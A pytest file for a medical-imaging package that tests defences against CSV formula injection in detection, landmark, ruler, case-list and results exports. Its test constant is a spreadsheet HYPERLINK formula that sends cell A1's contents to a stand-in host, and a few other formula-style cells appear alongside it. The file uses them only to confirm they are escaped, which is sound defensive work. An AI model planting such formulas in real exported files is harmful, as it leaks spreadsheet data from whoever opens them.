"""Text that a spreadsheet would compute is written as text, and read back as it was; numbers are left alone."""

from __future__ import annotations

import csv

import pytest

import napari_radcnn as radcnn
from napari_radcnn.cohort.cases import Case, CaseList
from napari_radcnn.cohort.results.table import Table, read_table
from napari_radcnn.cohort.tables import read_list, write_list
from napari_radcnn.files.cells import as_cell, from_cell
from napari_radcnn.io.reports import read_detections, read_table as read_answers
from napari_radcnn.measure.ruler_table import read_rulers, write_rulers
from napari_radcnn.measure.rulers import Ruler
from napari_radcnn.results import Classification, Detection, Detections, Landmark, Landmarks, Regression

EVIL = '=HYPERLINK("https://example.org?"&A1,"open")'


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        (EVIL, f"'{EVIL}"),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("'=1", "''=1"),
        ("-3.5", "-3.5"),
        ("+1e3", "+1e3"),
        ("-", "-"),
        ("left = right", "left = right"),
        ("'quoted'", "'quoted'"),
        ("", ""),
    ],
)
def test_what_looks_computed_gets_an_apostrophe_that_is_taken_off_again(text, cell):
    assert as_cell(text) == cell
    assert from_cell(cell) == text


@pytest.mark.parametrize("value", [-3.5, 0, None])
def test_what_is_no_text_is_left_alone(value):
    assert as_cell(value) is value


def _cells(path):
    with path.open(newline="", encoding="utf-8") as file:
        return [cell for row in csv.reader(file) for cell in row]


def _is_harmless(path):
    return not any(cell.startswith(("=", "+", "@")) for cell in _cells(path)) and f"'{EVIL}" in _cells(path)


def test_answers_findings_and_landmarks(tmp_path):
    boxes = Detections((Detection(EVIL, 0.5, (-1.0, 2.0, 3.0), (1.0, 1.0, 1.0)),))
    path = radcnn.write(boxes, tmp_path / "boxes.csv")
    assert _is_harmless(path)
    assert read_detections(path).boxes == boxes.boxes
    path = radcnn.write(Landmarks((Landmark(EVIL, (-1.0, -2.0, 3.0), 0.5),)), tmp_path / "marks.csv")
    assert _is_harmless(path)
    assert "-1.0" in _cells(path)
    path = radcnn.write(Regression(-3.0, EVIL, None, "age"), tmp_path / "=value.csv")
    assert _is_harmless(path)
    path = radcnn.write(Classification({EVIL: 0.25, "b": 0.75}), tmp_path / "classes.csv")
    assert _is_harmless(path)
    assert read_answers(path) == ([EVIL, "b"], {"classes": ["0.25", "0.75"]})


def test_rulers_and_lists_and_results_of_cohorts(tmp_path):
    ruler = Ruler("distance", ((-1.0, 2.0, 3.0), (4.0, 5.0, 6.0)), EVIL, "+visit")
    path = write_rulers([ruler], tmp_path / "rulers.csv")
    assert _is_harmless(path)
    (found,) = read_rulers(path)
    assert (found.name, found.visit, found.points) == (ruler.name, ruler.visit, ruler.points)

    (tmp_path / "scan.nii").write_bytes(b"")
    case = Case(EVIL, {"image": "scan.nii", "change": "-1.5"}, "@patient", "", "", 2)
    for suffix in (".csv", ".tsv", ".xlsx"):
        if suffix == ".xlsx":
            pytest.importorskip("openpyxl")
        path = write_list(CaseList((case,), ("image", "change"), tmp_path, None), tmp_path / f"list{suffix}")
        (again,) = read_list(path).cases
        assert (again.name, again.patient, again.values) == (EVIL, "@patient", case.values)
        if suffix == ".csv":
            assert _is_harmless(path)
            assert "-1.5" in _cells(path)

    table = Table(tmp_path / "results.csv", ["case", "state", "ml", "warnings", "seconds"])
    table.add({"case": EVIL, "state": "done", "ml": -2.5, "warnings": "-W", "seconds": 1})
    table.add({"case": "b", "state": "done", "=new": 3, "warnings": "", "seconds": 1})
    table.put_in_order([Case("b", {}, "", "", "", 3), case], ["case"])
    assert _is_harmless(table.path)
    assert [row["case"] for row in read_table(table.path)] == ["b", EVIL]
    assert [row["=new"] for row in read_table(table.path)] == ["3", ""]
    assert [row["ml"] for row in read_table(table.path)] == ["", "-2.5"]
